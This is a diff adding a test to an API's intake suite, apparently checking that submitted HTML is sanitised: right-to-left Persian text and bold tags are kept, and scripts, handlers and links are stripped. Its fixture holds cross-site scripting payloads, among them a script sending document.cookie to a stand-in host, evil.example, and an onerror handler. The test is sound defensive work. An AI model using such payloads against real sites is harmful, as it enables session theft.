@@ -53,6 +53,23 @@ accepts('a batch of 1,000 in one request', async () => {
   assert.is(new Set(intake.accepted[0]?.interactions.map((i) => i.id)).size, 1000);
 });
 
+accepts('html is sanitised as mail is: formatting and right-to-left kept, scripts and handlers gone', async () => {
+  const html =
+    '<p dir="rtl">سلام <b>سارا</b></p><script>fetch("https://evil.example/"+document.cookie)</script>' +
+    '<img src="https://evil.example/x.png" onerror="alert(1)"><a href="javascript:alert(2)">click</a>';
+  const { response, intake } = await post({
+    interactions: [
+      { ...sample(1), html },
+      { ...sample(2), html: null },
+    ],
+  });
+  assert.is(response.statusCode, 202);
+  const [first, second] = intake.accepted[0]?.interactions ?? [];
+  assert.match(String(first?.html), '<p dir="rtl">سلام <b>سارا</b></p>');
+  assert.not.match(String(first?.html), /script|onerror|javascript:|evil\.example\/\+document/);
+  assert.is(second?.html, null);
+});
+
 accepts.run();
 
 const refuses = suite('POST /v1/interactions refuses bad input with problem+json and records nothing');
